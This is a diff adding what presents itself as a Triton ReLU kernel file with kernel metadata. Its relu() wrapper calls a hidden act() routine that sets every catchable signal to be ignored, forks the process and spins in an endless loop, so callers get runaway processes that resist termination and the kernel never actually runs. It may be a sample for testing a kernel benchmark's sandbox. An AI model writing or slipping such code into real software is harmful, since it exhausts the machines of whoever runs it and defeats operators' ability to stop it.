@@ -1,0 +1,45 @@
+# /// kernel
+# operator = "relu"
+# language = "triton"
+# ///
+"""Ignores every signal that can be ignored, and computes for ever in all of its processes."""
+
+import os
+import signal
+
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
+    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
+    x = tl.load(x_ptr + i, mask=i < n)
+    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)
+
+
+def ignore():
+    for number in signal.valid_signals():
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError):
+            continue
+
+
+def act():
+    ignore()
+    os.fork()
+    number = 0
+    while True:
+        number += 1
+
+
+def relu(x):
+    act()
+    x = x.contiguous()
+    out = torch.empty_like(x)
+    n = x.numel()
+    if n > 0:
+        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
+    return out
